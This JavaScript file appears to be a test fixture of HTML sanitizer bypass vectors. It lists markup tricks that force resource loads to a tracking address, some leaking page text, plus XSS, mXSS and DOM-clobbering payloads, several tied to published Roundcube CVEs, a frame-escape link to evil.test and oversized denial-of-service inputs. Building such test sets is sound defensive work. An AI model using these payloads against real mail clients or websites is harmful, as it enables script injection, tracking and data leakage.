// HTML that wants to be more than words: to run, to load, to leave its frame. Each is a message of
// its own; `hit` makes an address that nothing may ask for.

const GIF = "R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==";

/** What loads something. */
const LOADS = {
  img: (hit) => `<img src="${hit("img")}">`,
  "img unquoted": (hit) => `<img src=${hit("unquoted")} >`,
  "img without scheme": (hit) => `<img src="${hit("scheme").replace("http:", "")}">`,
  srcset: (hit) => `<img srcset="${hit("srcset")} 2x">`,
  picture: (hit) => `<picture><source srcset="${hit("picture")}"><img></picture>`,
  "background attribute": (hit) => `<table background="${hit("table")}"><tr><td>x</table>`,
  "body background": (hit) => `<body background="${hit("body")}">x`,
  "css url": (hit) => `<p style="background:url(${hit("css")})">x`,
  "css url quoted": (hit) => `<p style="background-image:url('${hit("quoted")}')">x`,
  "css escaped": (hit) => `<p style="background:\\75 rl(${hit("escaped")})">x`,
  "css comment": (hit) => `<p style="background:u/**/rl(${hit("comment")})">x`,
  "css var": (hit) => `<p style="--a:url(${hit("var")});background:var(--a)">x`,
  "css image-set": (hit) => `<p style="background:image-set('${hit("set")}' 1x)">x`,
  "css import": (hit) => `<style>@import "${hit("import")}";</style>x`,
  "css import url": (hit) => `<style>@import url(${hit("importurl")});</style>x`,
  "css font": (hit) =>
    `<style>@font-face{font-family:a;src:url(${hit("font")})}p{font-family:a}</style><p>x`,
  "css list": (hit) => `<ul style="list-style-image:url(${hit("list")})"><li>x</ul>`,
  "css content": (hit) => `<style>p::before{content:url(${hit("content")})}</style><p>x`,
  "css cursor": (hit) => `<p style="cursor:url(${hit("cursor")}),auto">x`,
  "css mask": (hit) => `<p style="mask:url(${hit("mask")})">x`,
  "css attribute selector": (hit) =>
    `<style>p[title^="s"]{background:url(${hit("attr")})}</style><p title="secret">x`,
  "svg image": (hit) => `<svg><image href="${hit("svg")}"/></svg>`,
  "svg feImage": (hit) => `<svg><filter id=f><feImage href="${hit("fe")}"/></filter></svg>`,
  "svg use": (hit) => `<svg><use href="${hit("use")}#a"/></svg>`,
  "svg set": (hit) => `<svg><image><set attributeName=href to="${hit("smil")}"/></image></svg>`,
  "svg fill": (hit) => `<svg><rect fill="url(${hit("fill")}#a)"/></svg>`,
  video: (hit) => `<video src="${hit("video")}" autoplay></video>`,
  poster: (hit) => `<video poster="${hit("poster")}"></video>`,
  audio: (hit) => `<audio src="${hit("audio")}" autoplay></audio>`,
  track: (hit) => `<video><track default src="${hit("track")}"></video>`,
  "link stylesheet": (hit) => `<link rel=stylesheet href="${hit("sheet")}">x`,
  "link prefetch": (hit) => `<link rel=prefetch href="${hit("prefetch")}">x`,
  "link preconnect": (hit) => `<link rel=preconnect href="${hit("preconnect")}">x`,
  iframe: (hit) => `<iframe src="${hit("iframe")}"></iframe>`,
  "iframe srcdoc": (hit) => `<iframe srcdoc="<img src='${hit("srcdoc")}'>"></iframe>`,
  object: (hit) => `<object data="${hit("object")}"></object>`,
  embed: (hit) => `<embed src="${hit("embed")}">`,
  "meta refresh": (hit) => `<meta http-equiv=refresh content="0;url=${hit("refresh")}">x`,
  "input image": (hit) => `<input type=image src="${hit("input")}">`,
  "script src": (hit) => `<script src="${hit("script")}"></script>`,
  base: (hit) => `<base href="${hit("base")}/"><img src="relative">`,
  math: (hit) => `<math><mtext><img src="${hit("math")}"></mtext></math>`,
  "unclosed img": (hit) => `<img src="${hit("unclosed")}?secret words that follow`,
  "form that sends itself": (hit) =>
    `<form action="${hit("form")}"><input autofocus onfocus="this.form.submit()"></form>`,
};

/** What runs something; published against Roundcube, DOMPurify and others. */
const RUNS = {
  script: () => "<script>parent.pwned = 1</script>",
  onerror: () => "<img src=x: onerror='parent.pwned = 1'>",
  "svg onload": () => "<svg onload='parent.pwned = 1'></svg>",
  "svg use data (CVE-2023-5631)": () =>
    '<svg><use href="data:image/s vg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0neCcgb25lcnJvcj0ncGFyZW50LnB3bmVkPTEnLz48L3N2Zz4=#x"></svg>',
  "svg animate (CVE-2024-37383)": () =>
    "<svg><animate attributeName='href ' values='javascript:parent.pwned=1' href='#l'/><a id=l><text y=20>x</text></a></svg>",
  "body onload (CVE-2024-42009)": () =>
    "<body title='bgcolor=foo' name='bar style=animation-name:progress-bar-stripes onanimationstart=parent.pwned=1 foo=bar'>x</body>",
  "javascript link": () => "<a href='javascript:parent.pwned=1'>click</a>",
  "javascript link broken": () => "<a href='java\nscript:parent.pwned=1'>click</a>",
  "data link": () => "<a href='data:text/html,<script>parent.pwned=1</script>'>click</a>",
  mxss: () =>
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.pwned=1&gt;">',
  "mxss noscript": () => '<noscript><p title="</noscript><img src=x onerror=parent.pwned=1>">',
  "mxss comment": () => "<!--><img src=x onerror=parent.pwned=1>-->",
  "template shadow": () =>
    "<div><template shadowrootmode=open><img src=x onerror=parent.pwned=1></template></div>",
  clobber: () =>
    "<form id=document><input name=body></form><img name=cookie><a id=location href=//x>x</a>",
  "autofocus handler": () => "<input onfocus=parent.pwned=1 autofocus>",
  "details handler": () => "<details open ontoggle=parent.pwned=1>x</details>",
  "style breaks out": () => "<style></style><img src=x onerror=parent.pwned=1></style>",
  expression: () => "<p style='width:expression(parent.pwned=1)'>x",
  "meta csp": () => "<meta http-equiv=content-security-policy content=\"img-src 'none'\"><p>x",
  "leaves the frame": () =>
    "<base target=_top><a href='https://evil.test/' id=x>x</a><p style='position:fixed;inset:0;z-index:9999;background:red'>x",
  "data picture": () =>
    `<img src="data:image/gif;base64,${GIF}"><img src="data:image/svg+xml,<svg onload=parent.pwned=1>">`,
  "deeply nested": () => `${"<div>".repeat(3000)}x`,
  "many attributes": () => `<p ${Array.from({ length: 5000 }, (_, i) => `a${i}=1`).join(" ")}>x`,
};

export const VECTORS = { ...LOADS, ...RUNS };
